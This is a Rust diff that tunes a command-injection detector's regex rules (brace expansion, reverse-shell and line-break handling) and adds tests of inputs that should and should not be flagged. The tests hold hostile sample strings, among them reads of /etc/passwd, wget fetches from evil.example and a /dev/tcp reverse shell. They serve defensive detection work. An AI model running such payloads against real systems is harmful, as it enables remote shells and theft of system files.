@@ -23,7 +23,8 @@ use std::borrow::Cow;
 
 pub(crate) struct Cmdi {
     rules: Rules,
-    /// JavaScript that is an injection outside a JSON text field, where code samples do not travel.
+    /// JavaScript, and a command opening a line, which are an injection outside a JSON text field,
+    /// where code samples, logs and documents do not travel.
     strict_rules: Rules,
 }
 
@@ -221,7 +222,12 @@ impl Cmdi {
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
-        let strong_after_sep = format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
+        // A line break separates commands in a script, but also the lines of a document, a log
+        // or a stack trace (`\n  File "/app/main.py", line 3`): in a JSON text field a command
+        // word opening a line is only Medium; `;`, `|`, `&&` and `$(` inside a line stay strong.
+        let command_after = |sep: &str| format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
+        let strong_after_sep = command_after(r"(?:[;|]|&&|&|\$\(|<\(|\|\|)");
+        let strong_on_a_line = command_after(r"[\n\r]");
         let any_after_sep = format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)");
         let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
         let start_then_sep = format!(r"^\s*(?:{DANGEROUS})(?:\.exe)?\s*(?:[;|]|&&)");
@@ -230,12 +236,21 @@ impl Cmdi {
         let substitution = format!(r"\$\(\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})\b[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`");
         let base64_js = BASE64_MARKERS.join("|");
         let shell_escape = format!(r"(?:^|[\s:;|\\])!\s*(?:{DANGEROUS})\b");
+        // A brace list the shell expands into a command line: a command and an argument shaped
+        // like one (a path, a file, an option, a variable: `{cat,/etc/passwd}`), an option among
+        // the words (`{l,-lh}s`), an empty word that only serves to split (`{,ifconfig}`,
+        // `{id,}`), or a list inside a word (`c{a,oun}t`). Lists of names (`fetch_{add,sub}`,
+        // `const {id,name} =`, `use serde::{Serialize,Deserialize}`, `*.{js,ts}`) are code.
+        let brace_expansion = format!(
+            r"\{{(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG}),(?:[^\s{{}},]*,)*[^\s{{}},]*[/.$~-][^\s{{}}]*\}}|\{{[a-z]*,(?:[a-z0-9]*,)*-[a-z0-9-]*(?:,[^\s{{}},]*)*\}}|\{{,[a-z0-9./-]+(?:,[a-z0-9./-]*)*\}}|\{{[a-z0-9./-]+(?:,[a-z0-9./-]+)*,\}}|[a-z]\{{[a-z0-9]*,[a-z0-9]*(?:,[a-z0-9]*)*\}}[a-z]"
+        );
         let table = [
             (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
             // Bash imports a function from any variable whose value *starts* with `() {`.
             (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*[^}]*\}\s*;"#, Critical, 0.95, "Shellshock function definition"),
             (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*:?\s*;?"#, Critical, 0.9, "Shellshock function definition"),
-            (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|\d>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
+            // `0>&1` ties the shell's input to its output socket; `2>&1` is every script's stderr.
+            (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|(?:^|[^0-9])0>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
             (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
             (JS_CODE, Medium, 0.6, "JavaScript code"),
@@ -243,6 +258,7 @@ impl Cmdi {
             (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
             (r#"\bif\s*(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S|errorlevel\s+\d|cmdextversion\s+\d|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|["'\[({%!][^=\s]*\s*==|/i\s+\S+\s*={2,3}\s*\S+\s+\S|(?:not\s+)?\S+\s*={2,3}\s*\S+\s+(?:echo|goto|set|call|cmd|exit|copy|del|type|dir|start|md|cd|rd|@|\())"#, High, 0.8, "Windows batch IF"),
             (strong_after_sep.as_str(), Critical, 0.9, "command after a shell separator"),
+            (strong_on_a_line.as_str(), Medium, 0.6, "command word opening a line of text"),
             (any_after_sep.as_str(), Critical, 0.9, "dangerous command after a shell separator"),
             (wrapped.as_str(), High, 0.85, "command run through a wrapper"),
             (start_then_sep.as_str(), High, 0.8, "command line"),
@@ -256,7 +272,7 @@ impl Cmdi {
             (r"(?:^|[;|&])\s*\d*>>?\s*/(?:tmp|dev|etc|var|usr|s?bin|home|root|proc)/\S", High, 0.8, "redirection into a system path"),
             (shell_escape.as_str(), High, 0.8, "shell escape"),
             (r"[;|&`]\s*[a-z]{1,4}\s*\{?[^}\s]*\}?\s*(?:<<<|>>?\s*/)", High, 0.8, "shell redirection"),
-            (r"\{[a-z-]*,[a-z0-9-]*(?:,[a-z0-9-]*)*\}", High, 0.7, "brace expansion"),
+            (brace_expansion.as_str(), High, 0.7, "brace expansion"),
             (r"(?:^|[;|&\s])~[+-]\d*$", High, 0.7, "tilde expansion"),
             (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
             (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|authenticate|uid|login|select|fetch|store)\b", High, 0.75, "SMTP/IMAP command injection"),
@@ -264,7 +280,13 @@ impl Cmdi {
         ];
         Ok(Cmdi {
             rules: Rules::new(Family::Cmdi, &table)?,
-            strict_rules: Rules::new(Family::Cmdi, &[(JS_CODE, High, 0.85, "server-side JavaScript code injection")])?,
+            strict_rules: Rules::new(
+                Family::Cmdi,
+                &[
+                    (JS_CODE, High, 0.85, "server-side JavaScript code injection"),
+                    (strong_on_a_line.as_str(), Critical, 0.9, "command after a shell separator"),
+                ],
+            )?,
         })
     }
 }
@@ -572,6 +594,47 @@ mod tests {
                 "https://example.com/var/?utm=1&x=2",
             ],
         );
+    }
+
+    #[test]
+    fn stderr_redirects_and_name_lists_are_not_shells() {
+        use crate::fields::Part;
+        for v in [
+            "add 2>&1 to see the errors in the same log",
+            "stdio 2>&1 then stdout? false",
+            "implement `serde::{Serialize,Deserialize}` for the types",
+            "atomic `fetch_{add,sub,min,max}` operations",
+            "const {id,name} = user; import {useState,useEffect} from 'react'",
+            "lint every *.{php,js} file",
+        ] {
+            assert!(!any_flag_in_json(v), "{v} in a JSON body");
+            assert!(!flags_at("attack.cmdi", Part::Body, v), "{v} in a form field");
+        }
+        // Lines of a log or a document in a JSON text field; in a URL a line break is a separator.
+        for v in [
+            "Traceback (most recent call last):\n  File \"/app/main.py\", line 3, in <module>\n    import os",
+            "Steps:\nset -e at the top\ntype /help in the console",
+        ] {
+            assert!(!any_flag_in_json(v), "{v} in a JSON body");
+            assert!(flags("attack.cmdi", v), "{v} in a URL");
+        }
+        for v in ["notes\n; cat /etc/passwd", "x\nwget http://evil.example/s", "a\n$(id)"] {
+            assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON body");
+        }
+        for v in [
+            ";{cat,/etc/passwd}",
+            "x;{ls,-la}",
+            "{l,-lh}s",
+            "$({wget,http://evil.example/x.sh})",
+            "sh -i 2>&1 0>&1",
+            "c{a,oun}t /etc/hosts",
+            "{,ip,a}",
+            "{,whoami}",
+            "{uname,}",
+            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
     }
 
     #[test]
